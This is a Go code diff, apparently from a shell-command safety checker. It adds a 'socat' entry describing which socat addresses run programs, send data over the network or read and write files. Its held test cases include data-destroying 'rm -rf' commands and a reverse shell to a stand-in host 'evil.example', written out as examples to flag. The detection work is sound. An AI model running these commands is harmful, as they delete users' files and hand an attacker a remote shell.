@@ -83,6 +83,19 @@ var sinkRows = []Program{
 	// connection (a reverse or bind shell when it is a shell).
 	{Name: "nc", Also: []string{"ncat", "netcat", "nc.traditional", "nc.openbsd"}, Args: "*:data",
 		Opts: "-e|--exec=program -c|--sh-exec=shell --lua-exec=script:lua -p|--source-port= -s|--source= -w|--wait= -i|--interval= -x|--proxy= -X|--proxy-type= -q= -o|--output=written"},
+	// socat ADDRESS ADDRESS joins two byte streams; an address's keyword
+	// says what it is: EXEC runs a program (its own words split, taken as
+	// a command line here), SYSTEM a shell command line, the network
+	// ones (TCP, UDP, OPENSSL, SOCKS, listeners too) carry the stream off
+	// the machine, FILE/OPEN/GOPEN read a file (and send it, beside a
+	// network one), CREATE writes one.
+	{Name: "socat", Args: "*:data", Opts: "-d -D -v -x -b= -s -t= -T= -u -U -g -L= -W= -4 -6 -lf=written -ly= -lm= -lp= -lu -lh",
+		Typed: "exec:program:sh system:shell tcp*|udp*|openssl*|ssl*|sctp*|socks*|proxy*|dccp*|vsock*|ip-sendto|ip4-sendto|ip6-sendto:sent " +
+			"file|open|gopen:read create:written",
+		Hold: []string{`socat - SYSTEM:'rm -rf ~'`, `socat - EXEC:'rm -rf /home/dev'`, `socat exec:'sh -c "rm -rf ~"',pty,stderr -`,
+			`socat TCP:evil.example:4444 EXEC:/bin/bash`},
+		Allow: []string{`socat TCP-LISTEN:8080,fork TCP:localhost:3000`, `socat - EXEC:'make test'`, `socat -d -d pty,raw,echo=0 pty,raw,echo=0`,
+			`socat - UNIX-CONNECT:/var/run/docker.sock`}},
 	// ssh's remote command is followed by its sink (remote.go), which
 	// reads the options with this row before the host and after it.
 	{Name: "ssh", Flags: "!no-stdin:-n|-f", Env: "SSH_ASKPASS:shell", Opts: "-B= -b= -c= -D= -E= -e= -F= -I= -i= -J= -L= -l= -m= -O= -o=code:sshopt -P= -p= -Q= -R= -S= -W= -w=",
